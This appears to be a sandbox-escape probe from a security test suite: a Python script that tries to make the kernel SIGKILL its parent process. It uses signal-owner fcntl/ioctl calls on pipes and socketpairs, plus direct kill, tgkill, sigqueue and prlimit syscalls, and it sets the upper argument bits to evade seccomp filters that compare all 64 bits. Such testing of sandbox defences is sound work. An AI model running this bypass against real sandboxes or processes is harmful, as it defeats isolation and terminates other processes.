"""Has the kernel end the processes above it as the owner of a pipe or of a pair of sockets, with arguments whose upper half, which
the kernel doesn't look at, is no zero: a filter that compares all 64 bits takes them for something else."""
# from: solved
# shows: raised Ran: 0 armed, (\w+:\w+ ?)+
# stopped by: uid, landlock, seccomp

# %% last
import ctypes
import errno
import os
import signal
import socket
import struct
import time

libc = ctypes.CDLL(None, use_errno=True)
X86 = os.uname().machine == "x86_64"
FCNTL, IOCTL, KILL, TGKILL, QUEUE, PRLIMIT = (72, 16, 62, 234, 129, 302) if X86 else (25, 29, 129, 131, 138, 261)
SETFL, SETOWN, GETOWN, SETSIG, SETOWN_EX, SETLEASE, FIOSETOWN, SIOCSPGRP = 4, 8, 9, 10, 15, 1024, 0x8901, 0x8902
HIGHS = (0, 1 << 32, 1 << 63, 0xFFFFFFFF << 32)
# a signal that is ignored, where the parent is root's and may be somebody's who only tries this
NUMBER = signal.SIGKILL if os.getuid() else signal.SIGURG
armed, came = [], []


def call(name, number, *arguments):
    done = libc.syscall(number, *(ctypes.c_ulong(a % 2**64) if isinstance(a, int) else a for a in arguments))
    came.append(f"{name}:{'done' if done >= 0 else errno.errorcode[ctypes.get_errno()]}")
    return done >= 0


def pairs():
    end, other = os.pipe()
    yield end, lambda: os.write(other, b"now")
    ours, theirs = socket.socketpair()
    yield ours.fileno(), lambda: theirs.send(b"now")
    theirs.detach()
    ours.detach()


pid = os.getppid()
for high in HIGHS:
    for end, fire in pairs():
        call("setsig", FCNTL, end, high | SETSIG, NUMBER)
        owned = call("setown", FCNTL, end, high | SETOWN, pid)
        owned |= call("setowngroup", FCNTL, end, high | SETOWN, -os.getpgid(pid))
        owned |= call("setownex", FCNTL, end, high | SETOWN_EX, struct.pack("ii", 1, pid))
        owned |= call("fiosetown", IOCTL, end, high | FIOSETOWN, struct.pack("i", pid))
        owned |= call("siocspgrp", IOCTL, end, high | SIOCSPGRP, struct.pack("i", pid))
        call("setlease", FCNTL, end, high | SETLEASE, 0)
        call("setfl", FCNTL, end, SETFL, os.O_NONBLOCK | os.O_ASYNC)
        fire()
        if owned:
            armed.append("owner")
    for name, number, arguments in (
        ("kill", KILL, (high | pid, NUMBER)),
        ("tgkill", TGKILL, (high | pid, high | pid, NUMBER)),
        ("queue", QUEUE, (high | pid, NUMBER, struct.pack("3i116x", NUMBER, 0, -1))),
        ("prlimit", PRLIMIT, (high | pid, 7, struct.pack("QQ", 64, 64), 0)),
    ):
        if os.getuid() and call(name, number, *arguments):
            armed.append(name)
time.sleep(0.2)
say(f"{len(armed)} armed, {' '.join(dict.fromkeys(armed + came))}"[:180])
